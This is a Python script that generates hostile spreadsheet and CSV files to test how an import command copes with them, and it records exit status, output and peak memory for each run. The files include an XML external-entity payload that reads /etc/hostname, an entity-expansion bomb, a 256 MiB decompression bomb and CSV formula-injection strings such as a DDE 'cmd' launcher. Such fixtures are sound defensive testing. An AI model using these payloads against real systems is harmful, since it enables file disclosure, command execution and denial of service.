"""Makes tables that mean harm, or that a careless program made, and watches a command take them.

    hostile_peer.py make FOLDER   a file of each kind; the heading and a good row as JSON on standard input
    hostile_peer.py run COMMAND…  runs it and prints its status, output, errors and peak memory in KiB

Every file but the empty ones holds the text CANARY somewhere, in the last column at least.
"""

import json
import os
import subprocess
import sys
import tempfile
import zipfile

import openpyxl

CANARY = "Hoàng Thị Chim Yến"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MILLION = 1_000_000
BOMB_MIB = 256


def cells(number, row):
    """A row of a sheet as XML."""
    texts = (f'<c r="{chr(65 + place)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
             for place, value in enumerate(row))
    return f'<row r="{number}">{"".join(texts)}</row>'


def workbook(path, pieces):
    """A workbook whose sheet is these pieces of XML."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml",
                         f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
                         '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>')
        archive.writestr("xl/_rels/workbook.xml.rels",
                         f'<Relationships><Relationship Id="rId1" Type="{OFFICE}/worksheet"'
                         ' Target="worksheets/sheet1.xml"/></Relationships>')
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for piece in pieces:
                sheet.write(piece.encode())


def sheet(rows, prolog="", tail=()):
    """Pieces of a sheet with rows, and what follows them."""
    yield f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN}"><sheetData>'
    for number, row in enumerate(rows, 1):
        yield cells(number, row)
    yield from tail
    yield "</sheetData></worksheet>"


def edited(path, rows):
    """A workbook that openpyxl makes of rows, formulas and errors as they are."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)


def lines(rows):
    return "".join(",".join(map(str, row)) + "\n" for row in rows).encode()


def make(folder, heading, good):
    good = [*good[:-1], CANARY]
    rows = [heading, good, good]

    def path(name):
        return os.path.join(folder, name)

    blanks = " " * 2**20
    workbook(path("bomb.xlsx"), sheet(rows, tail=(blanks for _ in range(BOMB_MIB))))
    entities = ('<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
                '<!ENTITY c SYSTEM "file:///etc/hostname">]>')
    workbook(path("entities.xlsx"), sheet([*rows, [*good[:-1], "&b;&c;"]], prolog=entities))
    # A program that formats whole columns saves rows that hold nothing.
    empty = (f'<row r="{number}"/>' for number in range(len(rows) + 1, MILLION + 1))
    workbook(path("million.xlsx"), sheet(rows, tail=empty))
    with open(path("cut.xlsx"), "wb") as file, open(path("million.xlsx"), "rb") as whole:
        file.write(whole.read()[:-200])
    for name, content in {
        "million.csv": lines(rows) + b"\n" * MILLION,
        "wide.csv": lines(rows) + lines([[CANARY] * 600]),
        "old.xls": bytes.fromhex("d0cf11e0a1b11ae1") + CANARY.encode(),
        # The second row is of another program's encoding, the third of yet another.
        "mixed.csv": lines(rows[:2]) + lines([[*good[:-1], "Ðặng"]]).decode().encode("utf-16-le")[:-2]
        + b"\n" + lines([good]).decode().encode("cp1258", "replace") + lines([good]),
    }.items():
        with open(path(name), "wb") as file:
            file.write(content)
    edited(path("formula.xlsx"), [*rows, [f'=HYPERLINK("http://x.invalid/"&A2,"{CANARY}")', *good[1:]],
                                  [*good[:-1], f'=CONCAT("{CANARY}",A2)']])
    edited(path("types.xlsx"), [*rows, [CANARY, *good[1:]], [True, *good[1:]], ["#N/A", *good[1:]],
                                [good[0], *[CANARY] * (len(good) - 1)]])
    with open(path("formula.csv"), "wb") as file:
        file.write(lines([*rows, ["=cmd|'/c calc'!A0", *good[1:]], [*good[:-1], f"@SUM({CANARY})"]]))


def run(command):
    with tempfile.TemporaryFile("w+") as out, tempfile.TemporaryFile("w+") as err:
        child = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=out, stderr=err)
        _, status, usage = os.wait4(child.pid, 0)
        out.seek(0)
        err.seek(0)
        return {"status": os.waitstatus_to_exitcode(status), "output": out.read(),
                "errors": err.read(), "peak": usage.ru_maxrss}


def main():
    action, *rest = sys.argv[1:]
    if action == "make":
        return make(rest[0], **json.load(sys.stdin))
    json.dump(run(rest), sys.stdout)


main()
